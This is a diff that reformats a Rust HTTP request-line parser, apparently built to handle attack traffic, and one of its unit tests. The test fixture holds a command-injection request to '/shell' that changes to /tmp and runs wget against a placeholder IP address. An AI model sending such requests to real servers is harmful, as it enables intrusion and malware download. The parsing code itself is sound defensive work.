@@ -167,11 +167,18 @@ pub fn parse_request(buf: &[u8]) -> Parse<'_> {
     let line = trim_cr(&buf[..line_end]);
     // The method ends at the first space and the version starts after the last one: a target
     // with unencoded spaces (common in attack traffic) stays one target, as servers read it.
-    let (Some(first), Some(last)) = (line.iter().position(|&b| b == b' '), line.iter().rposition(|&b| b == b' ')) else {
+    let (Some(first), Some(last)) = (
+        line.iter().position(|&b| b == b' '),
+        line.iter().rposition(|&b| b == b' '),
+    ) else {
         return Parse::NotRequest;
     };
     let (method, version) = (&line[..first], &line[last + 1..]);
-    let target = if last > first { &line[first + 1..last] } else { &line[..0] };
+    let target = if last > first {
+        &line[first + 1..last]
+    } else {
+        &line[..0]
+    };
     if method.len() > MAX_METHOD_LEN || target.is_empty() || !version.starts_with(b"HTTP/") {
         return Parse::NotRequest;
     }
@@ -279,7 +286,9 @@ mod tests {
 
     #[test]
     fn a_target_with_spaces_is_one_target() {
-        let r = req(b"GET /shell?cd+/tmp;wget+ http://192.0.2.1/x HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n");
+        let r = req(
+            b"GET /shell?cd+/tmp;wget+ http://192.0.2.1/x HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n",
+        );
         assert_eq!(r.target, b"/shell?cd+/tmp;wget+ http://192.0.2.1/x");
         assert_eq!(r.version, b"HTTP/1.1");
         assert_eq!(parse_request(b"GET HTTP/1.1\r\n\r\n"), Parse::NotRequest);
